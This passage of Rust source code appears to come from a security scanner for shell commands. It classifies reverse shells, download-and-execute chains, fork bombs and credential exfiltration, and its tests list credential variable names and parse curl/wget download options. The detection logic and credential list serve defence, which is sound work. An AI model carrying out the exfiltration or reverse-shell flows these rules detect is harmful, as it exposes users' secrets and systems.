                source: FlowSource::Network { endpoint },
                sink: FlowSink::Execution { program },
            };
            self.record_flow(vec!["|".to_owned()], scope, ids::RCE_REVERSE_SHELL, flow);
        }
    }

    /// Secret data on the stdin of a network client (any command: `ssh`, wrappers, plain).
    pub(crate) fn check_stdin_flow(
        &mut self,
        name: &str,
        argv: &[Word],
        stdin: &Producer,
        scope: &Scope,
    ) {
        if let Producer::Secret(source) = stdin
            && let Some(sink) = stdin_sink(name, argv.get(1..).unwrap_or(&[]))
        {
            let flow = Flow {
                source: source.clone(),
                sink,
            };
            let argv = argv.iter().map(|w| w.text.clone()).collect();
            self.record_flow(argv, scope, ids::CRED_EXFILTRATE, flow);
        }
    }

    /// The flows of interpreter code (`via` is `python -c` and the like): an endless loop of
    /// forks; code fetched and evaluated; secret data passed to a network call, or handled by
    /// a snippet that also reaches the network; a socket next to a shell (reverse shell).
    /// `before` is where the snippet's own nested commands start in `self.commands`.
    pub(crate) fn code_flow_verdict(
        &self,
        via: &str,
        findings: &[Finding],
        effects: &[Effect],
        before: usize,
        scope: &Scope,
    ) -> Option<Verdict> {
        if findings.contains(&Finding::ForkLoop) {
            return Some(ids::RCE_FORK_BOMB.verdict());
        }
        let program = via.trim_end_matches(" -c").to_owned();
        if let Some(call) = findings.iter().find_map(|f| match f {
            Finding::FetchEval { call } => Some(call.clone()),
            _ => None,
        }) {
            let flow = Flow {
                source: FlowSource::Network { endpoint: call },
                sink: FlowSink::Execution { program },
            };
            return Some(verdict(ids::RCE_DOWNLOAD_TO_SHELL, flow));
        }
        if let Some((source, call)) = findings.iter().find_map(|f| match f {
            Finding::Exfil { source, call } => Some((source.clone(), call.clone())),
            _ => None,
        }) {
            let sink = FlowSink::Network {
                tool: call,
                channel: Channel::Code,
            };
            return Some(verdict(ids::CRED_EXFILTRATE, Flow { source, sink }));
        }
        let network = effects.iter().find(|e| e.op == EffectOp::Network)?;
        let endpoint = network
            .path
            .clone()
            .unwrap_or_else(|| format!("a socket opened by {via}"));
        let nested = self.commands.get(before..).unwrap_or(&[]);
        let shell = nested
            .iter()
            .find_map(reads_commands_from_stdin)
            .or_else(|| {
                effects
                    .iter()
                    .any(|e| e.op == EffectOp::Spawn && e.path.is_none())
                    .then(|| "a command built at run time".to_owned())
            });
        if let Some(program) = shell {
            let flow = Flow {
                source: FlowSource::Network { endpoint },
                sink: FlowSink::Execution { program },
            };
            return Some(verdict(ids::RCE_REVERSE_SHELL, flow));
        }
        let source = findings
            .iter()
            .find_map(|f| match f {
                Finding::Source(s) => Some(s.clone()),
                _ => None,
            })
            .or_else(|| {
                effects
                    .iter()
                    .filter(|e| e.op == EffectOp::Read)
                    .filter_map(|e| e.path.as_deref())
                    .find_map(|p| file_source(p, &scope.cwd, self.ctx))
            })?;
        let sink = FlowSink::Network {
            tool: endpoint,
            channel: Channel::Code,
        };
        Some(verdict(ids::CRED_EXFILTRATE, Flow { source, sink }))
    }

    /// The exfiltration and reverse-shell verdicts of one plain command's arguments.
    pub(crate) fn flow_verdict(
        &self,
        name: &str,
        words: &[Word],
        scope: &Scope,
    ) -> Option<Verdict> {
        if let Some(flow) = exec_on_socket(name, words) {
            return Some(verdict(ids::RCE_REVERSE_SHELL, flow));
        }
        if scope.remote {
            return None;
        }
        argument_flow(name, words, &scope.cwd, self.ctx)
            .map(|flow| verdict(ids::CRED_EXFILTRATE, flow))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn credential_variables_are_recognised_by_their_words() {
        for n in [
            "GITHUB_TOKEN",
            "GH_TOKEN",
            "AWS_SECRET_ACCESS_KEY",
            "AWS_SESSION_TOKEN",
            "OPENAI_API_KEY",
            "PGPASSWORD",
            "DB_PASS",
            "SLACK_WEBHOOK_URL",
            "npm_token",
            "STRIPE_SECRET_KEY",
            "NPM_AUTH_TOKEN",
        ] {
            assert!(is_credential_variable(n), "{n}");
        }
        for n in [
            "PATH",
            "HOME",
            "TOKENIZERS_PARALLELISM",
            "SSH_AUTH_SOCK",
            "CACHE_KEY",
            "PWD",
            "GIT_ASKPASS",
            "QUERY",
            "KEYBOARD",
        ] {
            assert!(!is_credential_variable(n), "{n}");
        }
    }

    fn words(s: &[&str]) -> Vec<Word> {
        s.iter().map(|w| Word::lit(*w)).collect()
    }

    #[test]
    fn download_outputs_follow_each_clients_options() {
        assert_eq!(
            download_outputs("curl", &words(&["-o", "/tmp/x.sh", "https://h/i.sh"])),
            ["/tmp/x.sh"]
        );
        assert_eq!(
            download_outputs("curl", &words(&["-sLO", "https://h/a/install.sh"])),
            ["install.sh"]
        );
        assert_eq!(
            download_outputs("curl", &words(&["-fsSLo", "t", "https://h/t"])),
            ["t"]
        );
        assert_eq!(
            download_outputs("wget", &words(&["https://h/a.py"])),
            ["a.py"]
        );
        assert_eq!(
            download_outputs("wget", &words(&["-qO-", "https://h/a.py"])),
            Vec::<String>::new()
        );
        assert_eq!(
            download_outputs("wget", &words(&["-P", "/tmp", "https://h/p"])),
            ["/tmp/p"]
        );
        assert_eq!(
            download_outputs("curl", &words(&["https://h/p"])),
            Vec::<String>::new()
        );
    }
}
